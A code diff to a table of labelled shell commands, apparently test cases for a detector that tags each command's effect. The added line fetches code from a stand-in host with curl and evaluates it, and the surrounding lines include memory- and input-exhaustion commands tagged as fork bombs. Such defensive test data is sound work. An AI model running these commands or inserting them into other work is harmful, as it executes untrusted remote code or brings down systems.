@@ -7,6 +7,7 @@ CODE = {
     # what is tried              command                                                                 effect
     "a table without end":    ("lua -e 'local t={} repeat t[#t+1]=(\"y\"):rep(9) until false'",          "fork_bomb"),
     "a list without end":     ("jq -n '[repeat(\"x\")] | length'",                                       "fork_bomb"),
+    "code from a host":       ('crystal eval "$(curl -s a.example)"',                                    "remote_code"),
     "a short list":           ("jq -n '[limit(3; repeat(\"x\"))]'",                                      None),
     "a walk through a tree":  ("jq '[recurse(.children[])]' a.json",                                     None),
     "a file that never ends": ("echo '#include \"/dev/zero\"' | gcc -xc -E -",                           "fork_bomb"),
